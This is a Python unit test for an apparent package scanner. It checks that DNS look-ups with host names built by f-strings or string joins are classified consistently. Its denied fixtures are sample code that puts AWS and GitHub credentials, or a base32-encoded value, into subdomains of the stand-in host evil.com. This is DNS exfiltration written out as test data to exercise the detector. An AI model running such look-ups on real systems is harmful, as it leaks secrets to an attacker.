"""A look-up's name spelt by an f-string is read part by part, as one joined by ``+`` is
(ADR 0109): a service's name from the environment under its cluster's domain, looked up
when called, is configuration whichever way the name is written; a credential's value or
an encoded one under a written domain is DNS exfiltration whichever way too."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package


def _lookup(name: str) -> dict[str, str]:
    return init(
        f"import os, socket, base64\ndef peer():\n    return socket.gethostbyname({name})\n"
    )


DENIED = {
    "credential-in-an-f-string-name": _lookup(
        "f\"{os.environ['AWS_SECRET_ACCESS_KEY']}.x.evil.com\""
    ),
    "encoded-value-in-an-f-string-name": _lookup(
        "f\"{base64.b32encode(os.environ['USER'].encode()).decode()}.x.evil.com\""
    ),
    "credential-joined-by-plus": _lookup("os.environ['GITHUB_TOKEN'] + '.x.evil.com'"),
}
ALLOWED = {
    "service-name-in-an-f-string": _lookup("f\"{os.environ['SERVICE_NAME']}.svc.cluster.local\""),
    "service-name-shown-by-str-in-an-f-string": _lookup(
        "f\"{os.environ['SERVICE_NAME']!s}.svc.cluster.local\""
    ),
    "region-in-an-f-string": _lookup("f\"{os.environ['REGION']}.api.example.com\""),
    "service-name-joined-by-plus": _lookup("os.environ['SERVICE_NAME'] + '.svc.cluster.local'"),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_fstring_shapes(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
